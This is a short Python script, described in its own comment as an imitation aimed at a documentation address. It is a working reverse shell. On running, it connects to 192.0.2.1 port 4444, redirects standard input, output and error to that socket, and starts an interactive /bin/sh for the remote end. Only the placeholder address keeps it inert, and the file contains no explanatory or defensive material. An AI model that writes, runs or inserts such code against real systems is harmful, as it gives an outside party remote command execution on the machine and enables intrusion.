#!/usr/bin/env python3
# An imitation: the address is reserved for documentation and reaches nobody.
import os
import socket
import subprocess

ADDRESS = ("192.0.2.1", 4444)


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(ADDRESS)
    for fd in range(3):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])


connect()
